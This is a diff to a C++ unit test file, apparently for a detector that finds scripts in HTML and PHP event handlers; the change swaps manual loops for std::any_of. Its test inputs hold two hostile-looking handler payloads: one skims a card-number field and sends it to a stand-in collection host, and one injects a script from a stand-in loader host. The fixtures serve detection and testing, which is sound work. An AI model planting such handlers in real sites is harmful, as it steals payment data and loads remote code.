@@ -6,6 +6,7 @@
 #include <gtest/gtest.h>
 #include <zlib.h>
 
+#include <algorithm>
 #include <chrono>
 #include <string>
 
@@ -197,18 +198,17 @@ TEST(Normalize, EventHandlersOfMarkupAreScripts) {
       "<div>Footer</div><svg onload=\"var f=document.getElementById(&quot;cc_number&quot;);"
       "new Image().src='https://collect.example/p?d='+btoa(f.value)\"></svg>",
       CodeKind::kHtml);
-  bool layer = false;
-  for (const CodeLayer& l : n.layers) layer |= l.path == "html>handler#1";
-  EXPECT_TRUE(layer);
+  EXPECT_TRUE(std::any_of(n.layers.begin(), n.layers.end(),
+                          [](const CodeLayer& l) { return l.path == "html>handler#1"; }));
   EXPECT_GE(Best(n), 3) << AllText(n);
   // Handlers in a PHP template's markup too.
   auto p = Normalize(
       "<?php echo $title; ?><img src=x onerror=\"var s=document.createElement('script');"
       "s.src='https://loader.example/a.js';document.body.appendChild(s)\">",
       CodeKind::kPhp);
-  bool script = false;
-  for (const CodeTrait& t : p.traits) script |= t.host == "loader.example";
-  EXPECT_TRUE(script) << AllText(p);
+  EXPECT_TRUE(std::any_of(p.traits.begin(), p.traits.end(), [](const CodeTrait& t) {
+    return t.host == "loader.example";
+  })) << AllText(p);
   // Short handlers (a menu toggle) are left alone; so is text that only says "on".
   auto q =
       Normalize("<a onclick=\"go(1)\">on=\"not a handler at all, just text\"</a>", CodeKind::kHtml);
